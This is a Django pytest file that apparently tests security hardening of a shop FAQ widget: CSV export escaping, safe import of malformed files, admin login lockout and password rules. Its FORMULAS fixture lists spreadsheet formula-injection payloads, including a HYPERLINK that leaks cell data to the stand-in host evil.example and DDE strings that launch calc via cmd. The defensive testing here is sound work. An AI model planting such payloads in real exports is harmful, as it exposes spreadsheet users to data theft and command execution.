"""Hardening, round two (issue 14), on the owner's side: CSV exports no spreadsheet runs as
formulas, imports that never 500 on bad bytes, admin login throttling, password validators in
create_owner, the demo shop's marker, the default Claude budget. Through the real admin, commands
and database."""

from __future__ import annotations

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse

from faq.models import FAQEntry, Shop
from lib import csvcells
from widget.models import Conversation, Message

pytestmark = pytest.mark.django_db

# The report's payloads, and the other cell starts OWASP lists.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for refund")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''@twice",
]
PLAIN = ["Do you deliver?", "'quoted text", "", "a=b", "50% off - today"]


def test_cells_are_neutralised_and_restored_exactly():
    for value in FORMULAS:
        escaped = csvcells.neutralise(value)
        assert escaped.startswith("'") and escaped[1:] == value
        assert csvcells.restore(escaped) == value
    for value in PLAIN:
        assert csvcells.neutralise(value) == value
        assert csvcells.restore(value) == value
    assert csvcells.neutralise(None) == "" and csvcells.neutralise(-0.5) == "'-0.5"


def formula_cells(text: str) -> list[str]:
    """Cells a spreadsheet would run: starting with = + - @ (tab, CR)."""
    rows = list(csv.reader(io.StringIO(text)))
    return [c for row in rows for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_the_transcript_download_runs_no_formula(client):
    shop = Shop.objects.create(name="Corner Shop")
    conversation = Conversation.objects.create(
        shop=shop, page_url='=HYPERLINK("http://evil.example")', user_agent="test"
    )
    for n, text in enumerate(FORMULAS):
        Message.objects.create(conversation=conversation, role="user", ask_id=f"a{n}", text=text)
    root = User.objects.create_superuser("root", "root@example.com", None)
    client.force_login(root)
    response = client.post(
        reverse("admin:widget_conversation_changelist"),
        {"action": "export_csv", "_selected_action": [str(conversation.pk)]},
    )
    assert response.status_code == 200
    text = response.content.decode()
    assert formula_cells(text) == []
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [r["text"] for r in rows] == ["'" + f for f in FORMULAS]
    assert rows[0]["page"] == '\'=HYPERLINK("http://evil.example")'


def test_faq_exports_run_no_formula_and_import_back_unchanged(client, tmp_path):
    shop = Shop.objects.create(name="Corner Shop")
    # (The importer strips surrounding spaces from every value, tabs included, by design.)
    values = [f for f in FORMULAS if not f[0].isspace()] + PLAIN[:2]
    for n, value in enumerate(values):
        FAQEntry.objects.create(
            shop=shop,
            question=f"{value} question {n}?",
            answer=f"{value} answer",
            alternatives=f"{value} one\n- two",
            category=value[:60].strip() if n % 2 else "",
        )
    # The command.
    out = tmp_path / "faqs.csv"
    call_command("export_faqs", shop.pk, "-o", str(out))
    assert formula_cells(out.read_text()) == []
    copy = Shop.objects.create(name="Copy")
    call_command("import_faqs", copy.pk, str(out), stdout=io.StringIO())

    def texts(s: Shop) -> list[tuple]:
        return sorted(
            s.entries.values_list("question", "answer", "alternatives", "category", "published")
        )

    assert texts(copy) == texts(shop)
    # The admin action.
    root = User.objects.create_superuser("root", "root@example.com", None)
    client.force_login(root)
    response = client.post(
        reverse("admin:faq_faqentry_changelist"),
        {
            "action": "export_csv",
            "_selected_action": [str(pk) for pk in shop.entries.values_list("pk", flat=True)],
        },
    )
    assert response.status_code == 200
    assert formula_cells(response.content.decode()) == []
    again = Shop.objects.create(name="Again")
    upload = SimpleUploadedFile("faqs.csv", response.content)
    response = client.post("/admin/faq/faqentry/import/", {"shop": again.pk, "file": upload})
    assert response.status_code == 302
    assert texts(again) == texts(shop)


BAD_FILES = [
    ("faq.csv", b"question,answer\nOpen?,Yes\x00 we are\n", "line 2: character 10 is a NUL byte"),
    ("faq.json", b'{"faqs": [{"question": "A\\u0000?", "answer": "x"}]}', "line 1: question"),
    ("faq.json", b'{"faqs": [\n{"question": "A?", "answer": "\\ud800"}]}', "line 2: answer"),
    ("faq.json", b'{"faqs": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "nested more than"),
    ("faq.json", b'{"faqs": [{"question": 1' + b"0" * 5000 + b"}]}", "over 4,000 digits"),
    ("faq.json", b'{"faqs": [{"question": 1e999999, "answer": "x"}]}', "question must be text"),
    ("faq.json", b'{"faqs": [{"question": "A?",}]}', "character 29"),
    ("faq.csv", b"\xff\xfe\x00q\x00", "not UTF-8"),
    ("faq.csv", b"PK\x03\x04\x14\x00\x06\x00", "NUL byte"),  # an .xlsx renamed .csv
]


@pytest.mark.parametrize("name, data, message", BAD_FILES)
def test_bad_bytes_get_a_sentence_and_a_position_never_a_500(client, name, data, message):
    shop = Shop.objects.create(name="Corner Shop")
    FAQEntry.objects.create(shop=shop, question="Kept?", answer="Yes.")
    root = User.objects.create_superuser("root", "root@example.com", None)
    client.force_login(root)
    upload = SimpleUploadedFile(name, data)
    response = client.post("/admin/faq/faqentry/import/", {"shop": shop.pk, "file": upload})
    assert response.status_code == 200
    html = response.content.decode()
    assert "Nothing was imported" in html
    assert message in html.replace("&quot;", '"')
    assert list(shop.entries.values_list("question", flat=True)) == ["Kept?"]


# --- Admin login --------------------------------------------------------------------------------


def login(client, password: str, ip: str = "198.51.100.7"):
    return client.post(
        "/admin/login/?next=/admin/",
        {"username": "owner", "password": password},
        REMOTE_ADDR=ip,
    )


def test_admin_logins_are_throttled_per_username_and_address(client, settings):
    from datetime import timedelta

    from axes.models import AccessAttempt
    from django.utils import timezone

    assert settings.ADMIN_LOGIN_FAILURE_LIMIT == 5 and settings.ADMIN_LOGIN_COOLOFF_MINUTES == 15
    User.objects.create_user("owner", password="a-long-test-password-1", is_staff=True)
    for _ in range(4):
        assert login(client, "wrong").status_code == 200  # the form again, with its error
    # A success before the limit resets the count.
    assert login(client, "a-long-test-password-1").status_code == 302
    client.logout()
    assert not AccessAttempt.objects.exists()
    for _ in range(5):
        login(client, "wrong")
    # Locked: even the right password is refused, and nothing is logged in.
    response = login(client, "a-long-test-password-1")
    assert response.status_code == 429
    assert "_auth_user_id" not in client.session
    attempt = AccessAttempt.objects.get(username="owner", ip_address="198.51.100.7")
    assert attempt.failures_since_start >= 5
    # The owner, from their own address, is not locked out by someone else's guesses.
    assert login(client, "a-long-test-password-1", ip="203.0.113.9").status_code == 302
    client.logout()
    # After the cool-off the address may try again.
    AccessAttempt.objects.update(attempt_time=timezone.now() - timedelta(minutes=16))
    assert login(client, "a-long-test-password-1").status_code == 302


def test_create_owner_runs_the_password_validators():
    from django.core.management.base import CommandError

    shop = Shop.objects.create(name="Corner Shop")
    for weak in ("1", "password", "12345678901", "cornershopowner"):
        with pytest.raises(CommandError, match="too weak"):
            call_command("create_owner", shop.pk, "cornershopowner", "--password", weak)
    assert not User.objects.filter(username="cornershopowner").exists()
    out = io.StringIO()
    call_command(
        "create_owner", shop.pk, "cornershopowner", "--password", "tulip-vase-97-north", stdout=out
    )
    assert User.objects.get(username="cornershopowner").check_password("tulip-vase-97-north")


# --- The demo shop and the default budget ---------------------------------------------------------


def test_the_demo_shop_is_found_by_its_marker_not_its_name(client, demo_vectors_reused):
    from faq.demo import load_shop as load_demo_shop

    demo, created = load_demo_shop()
    assert created and demo.is_demo
    # The owner renames the demo; someone else calls their own shop "Petal & Stem".
    Shop.objects.filter(pk=demo.pk).update(name="Bloom & Branch")
    impostor = Shop.objects.create(name="Petal & Stem")
    again, created = load_demo_shop()
    assert (again.pk, created) == (demo.pk, False)
    call_command("load_demo", stdout=io.StringIO())  # no MultipleObjectsReturned
    assert Shop.objects.filter(is_demo=True).get().pk == demo.pk
    html = client.get("/").content.decode()
    assert f'data-shop="{demo.public_key}"' in html
    assert impostor.public_key not in html
    # One demo shop at most, by a database constraint.
    from django.db import IntegrityError, transaction

    with pytest.raises(IntegrityError), transaction.atomic():
        Shop.objects.filter(pk=impostor.pk).update(is_demo=True)


def test_the_migration_marks_the_first_shop_with_the_demo_name():
    from importlib import import_module

    from django.apps import apps

    first = Shop.objects.create(name="Petal & Stem")
    Shop.objects.create(name="Petal & Stem")
    import_module("faq.migrations.0003_shop_is_demo_default_budget").mark_demo(apps, None)
    assert list(Shop.objects.filter(is_demo=True).values_list("pk", flat=True)) == [first.pk]


def test_new_shops_get_the_default_claude_budget_shown_in_the_admin(client, settings):
    shop = Shop.objects.create(name="Corner Shop")
    assert shop.monthly_token_budget == 2_000_000
    settings.CLAUDE_DEFAULT_MONTHLY_TOKENS = 500_000
    assert Shop.objects.create(name="Small Shop").monthly_token_budget == 500_000
    root = User.objects.create_superuser("root", "root@example.com", None)
    client.force_login(root)
    add = client.get(reverse("admin:faq_shop_add")).content.decode()
    assert 'name="monthly_token_budget" value="500000"' in add
    change = client.get(reverse("admin:faq_shop_change", args=[shop.pk])).content.decode()
    assert "Claude tokens this month" in change and "0 of 2,000,000 (0%)" in change
    listing = client.get(reverse("admin:faq_shop_changelist")).content.decode()
    assert "2000000" in listing or "2,000,000" in listing
